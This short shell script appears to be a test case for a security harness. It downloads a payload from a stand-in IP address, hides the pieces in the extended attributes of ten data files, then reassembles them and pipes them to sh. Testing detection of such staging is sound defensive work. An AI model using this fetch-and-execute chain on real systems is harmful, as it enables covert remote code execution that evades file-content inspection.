#!/bin/sh
. /opt/case/case.sh

cat >/tmp/put.py <<'END'
import os, urllib.request
b = urllib.request.urlopen("http://203.0.113.10/payload.sh").read()
for n in range(1, 11): os.setxattr(f"/srv/data/{n:02}.txt", "user.mime_type", b[(n - 1) * 4:n * 4] if n < 10 else b[36:] or b"\n")
END
python3 /tmp/put.py && rm /tmp/put.py
python3 -c '
import os, subprocess
s = b"".join(os.getxattr(f"/srv/data/{n:02}.txt", "user.mime_type") for n in range(1, 11))
subprocess.run(["sh"], input=s, check=True)'
test -e /tmp/reached
took_place
